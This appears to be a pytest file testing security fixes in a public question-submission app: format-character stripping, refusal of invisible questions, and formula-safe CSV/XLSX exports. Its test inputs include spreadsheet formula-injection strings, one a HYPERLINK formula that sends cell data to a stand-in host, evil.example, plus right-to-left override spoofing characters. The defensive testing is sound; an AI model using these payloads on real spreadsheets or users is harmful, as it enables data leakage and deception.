"""Issue 13 security findings about text: what people type is shown and exported safely.

7. bidirectional and other format characters are stripped from every field (names and towns
   too), and text that would start a formula is neutralised in CSV and XLSX exports;
8. a question with no visible letters or digits is refused with a clear message on the form,
   the API and imports.
"""

from __future__ import annotations

import csv
import io
import itertools
import unicodedata
from datetime import UTC, date, datetime
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select

from domain.export import safe_cell, write_csv, write_xlsx
from domain.models import ApiToken, Meeting, OutboxMessage, StaffUser
from domain.queue import SubmissionMessage
from domain.runtime import Runtime
from intake.email.parsing import parse_email
from intake.spreadsheet.importer import parse_upload
from intake.validation import NO_WORDS, clean_line, clean_text, validate_submission
from tests.conftest import STAFF_EMAIL, STAFF_PASSWORD
from tests.support.forms import submit_question
from workers import processing
from workers.ingest import store_submission
from workers.pipeline.dedupe import DedupeIndex, MatchKind
from workers.pipeline.embedding import default_embedder
from workers.pipeline.normalise import normalise

RLO = "\u202e"  # right-to-left override: shows the text after it reversed
INVISIBLE = ["\u202e", "\u202a", "\u2066", "\u200e", "\u200b", "\u2060", "\ufeff", "\u00ad"]
_addresses = itertools.count(1)


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    """A test client from an address of its own (the sign-in limit is per address)."""
    test_client = app.test_client()
    n = next(_addresses)
    test_client.environ_base["REMOTE_ADDR"] = f"10.77.{n // 250}.{n % 250 + 1}"
    return test_client


def no_format_characters(value: str | None) -> bool:
    return not any(unicodedata.category(ch) == "Cf" for ch in value or "")


def outbox_payloads(rt: Runtime) -> list[dict[str, Any]]:
    with rt.db.transaction() as session:
        rows = session.scalars(select(OutboxMessage).order_by(OutboxMessage.id))
        return [dict(r.payload) for r in rows]


def api_token(rt: Runtime) -> str:
    row, token = ApiToken.issue("Partner")
    with rt.db.transaction() as session:
        session.add(row)
    return token


# --- 7. format characters ---------------------------------------------------------------------


@pytest.mark.parametrize("char", INVISIBLE)
def test_format_characters_are_stripped_from_every_field(char: str) -> None:
    result = validate_submission(
        text=f"Why is {char}the station shut?",
        name=f"Ka{char}th",
        town=f"Shif{char}nal",
        email=f"kath{char}@example.org",
        event=f"County{char} Show",
        consent=True,
    )
    assert result.clean is not None, result.errors
    clean = result.clean
    assert (clean.text, clean.author_name, clean.location) == (
        "Why is the station shut?",
        "Kath",
        "Shifnal",
    )
    assert (clean.contact_email, clean.event_name) == ("kath@example.org", "County Show")


def test_emoji_sequences_and_flags_keep_their_joiners() -> None:
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    england = "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"
    text = f"Is there help for my {family} in {england}?"
    assert clean_text(text) == text
    assert clean_line(f"Kath {family}") == f"Kath {family}"


def test_a_right_to_left_override_never_reaches_the_board(
    client: FlaskClient, meeting: Meeting, rt: Runtime, staff_user: StaffUser
) -> None:
    sent = submit_question(
        client,
        meeting.slug,
        f"Why was the {RLO}rural crime team cut?",
        name=f"Kath{RLO}",
        town=f"Shif{RLO}nal",
        consent_publish="y",
    )
    assert sent.status_code == 303
    api = client.post(
        f"/api/v1/meetings/{meeting.id}/submissions",
        json={"text": f"Quad bikes{RLO}?", "author_name": f"Les{RLO}", "location": f"Clu{RLO}n"},
        headers={"Authorization": f"Bearer {api_token(rt)}"},
    )
    assert api.status_code == 201
    payloads = outbox_payloads(rt)
    for payload in payloads:
        for field in ("text", "author_name", "location"):
            assert no_format_characters(payload[field]), (field, payload[field])
    assert [p["location"] for p in payloads] == ["Shifnal", "Clun"]

    with rt.db.transaction() as session:
        for payload in payloads:
            store_submission(session, SubmissionMessage.from_dict(payload))
    processing._states.clear()
    processing.process_batch(rt, meeting.id, 100)
    assert (
        client.post("/triage/login", data={"email": STAFF_EMAIL, "password": STAFF_PASSWORD})
    ).status_code == 302
    board = client.get(f"/triage/meetings/{meeting.id}")
    assert board.status_code == 200
    assert "Shifnal" in board.text and RLO not in board.text


def test_imports_strip_format_characters_from_names_and_towns() -> None:
    data = f"Question,Name,Town\nIs 101 staffed{RLO}?,Les{RLO},Cl{RLO}un\n".encode()
    sheet = parse_upload("cards.csv", data, default_event="Shropshire County Show")
    (row,) = sheet.valid_rows
    assert (row.text, row.name, row.town) == ("Is 101 staffed?", "Les", "Clun")

    raw = (
        f"From: Kath{RLO} <kath@example.org>\r\nSubject: Police\r\n"
        f"Message-ID: <a@example.org>\r\n\r\nWhy is the {RLO}station shut?\r\n"
    ).encode()
    parsed = parse_email(raw)
    result = validate_submission(text=parsed.text, name=parsed.first_name, email=parsed.address)
    assert result.clean is not None
    assert no_format_characters(result.clean.text) and result.clean.author_name == "Kath"


# --- 7. formula-safe exports ------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 7700 900123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]
SAFE = ["Why is the station shut?", "Kath", "Shifnal", "", "'quoted already", "1+1=2"]


def test_export_cells_that_could_start_a_formula_are_neutralised() -> None:
    for text in DANGEROUS:
        assert safe_cell(text) == "'" + text
    for text in SAFE:
        assert safe_cell(text) == text
    for value in (-5, 3.5, True, None, date(2026, 6, 4), datetime(2026, 6, 4, 19, tzinfo=UTC)):
        assert safe_cell(value) == value


def test_csv_export_reads_back_as_text_only() -> None:
    rows: list[list[Any]] = [["Question", "Name", "Votes"]]
    rows += [[text, "Kath", -1] for text in DANGEROUS + SAFE]
    exported = write_csv(rows)
    assert exported.startswith("\ufeff")
    read = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"), newline="")))
    assert read[0] == ["Question", "Name", "Votes"]
    texts = [r[0] for r in read[1:]]
    assert texts == ["'" + t for t in DANGEROUS] + SAFE
    assert all(r[2] == "-1" for r in read[1:])  # numbers stay numbers


def test_xlsx_export_has_no_formulas() -> None:
    rows: list[list[Any]] = [["Question", "Name", "Votes"]]
    rows += [[text, f"Kath{text}", 2] for text in DANGEROUS + SAFE]
    rows.append(["Control\x0bcharacters\x00are dropped", None, None])
    sheet = load_workbook(io.BytesIO(write_xlsx(rows))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type in ("s", "n") for cell in cells)
    values = [row[0].value for row in sheet.iter_rows(min_row=2)]
    # (whether the carriage return in "\r=1+1" survives the XML depends on lxml being there)
    read_back = [str(v).replace("\r", "\n") for v in values[: len(DANGEROUS)]]
    assert read_back == ["'" + t.replace("\r", "\n") for t in DANGEROUS]
    assert values[-1] == "Controlcharactersare dropped"


# --- 8. invisible questions ------------------------------------------------------------------

NOT_A_QUESTION = {
    "zero-width": "\u200b\u200b\u200b",
    "joiners": "\u200d\u200c\u2060",
    "emoji only": "\U0001f600\U0001f64f\U0001f44d",
    "symbols": "?!... \u2022 ***",
    "hangul filler": "\u3164\u3164",
    "bidi marks": "\u202e\u202d\u200f",
}
MESSAGES = ("Enter the question", NO_WORDS)


@pytest.mark.parametrize("text", NOT_A_QUESTION.values(), ids=NOT_A_QUESTION.keys())
def test_validation_refuses_a_question_with_nothing_to_read(text: str) -> None:
    result = validate_submission(text=text)
    assert result.clean is None
    assert result.messages()["text"] in MESSAGES
    assert result.short_messages()[0] in (
        "question is empty",
        "question has no letters or numbers",
    )
    for fine in ("Why? \U0001f600", "101?", "\u0644\u0645\u0627\u0630\u0627\u061f"):
        assert validate_submission(text=fine).ok


def test_the_form_the_api_and_imports_refuse_invisible_questions(
    client: FlaskClient, meeting: Meeting, rt: Runtime
) -> None:
    token = api_token(rt)
    for text in NOT_A_QUESTION.values():
        page = submit_question(client, meeting.slug, text)
        assert page.status_code == 200
        assert "There is a problem" in page.text
        assert "Enter your question" in page.text or "must include letters or numbers" in (
            page.text
        )
        api = client.post(
            f"/api/v1/meetings/{meeting.id}/submissions",
            json={"text": text},
            headers={"Authorization": f"Bearer {token}"},
        )
        assert api.status_code == 422
        assert api.json["errors"]["text"] in MESSAGES
    assert outbox_payloads(rt) == []

    data = "Question\n" + "\n".join(f'"{t}"' for t in NOT_A_QUESTION.values()) + "\nOK?\n"
    sheet = parse_upload("cards.csv", data.encode(), default_event="County Show")
    assert [r.text for r in sheet.valid_rows] == ["OK?"]
    problems = [m for r in sheet.invalid_rows for m in r.messages()]
    assert "Row 2: question is empty" in problems
    assert "Row 4: question has no letters or numbers" in problems


def test_questions_with_nothing_to_match_are_never_exact_duplicates() -> None:
    # Stored before intake refused them (or from a channel without a form): the zero-width
    # question and the emoji-only one were grouped as "exact" duplicates of each other.
    index = DedupeIndex(embedder=default_embedder())
    decisions = [
        index.place(str(n), normalise(text).match_text, text_hash=normalise(text).hash)
        for n, text in enumerate(NOT_A_QUESTION.values())
    ]
    assert [d.kind for d in decisions] == [MatchKind.NEW] * len(NOT_A_QUESTION)
    same = [index.place(f"q{n}", "why is the station shut") for n in range(2)]
    assert [d.kind for d in same] == [MatchKind.NEW, MatchKind.EXACT]
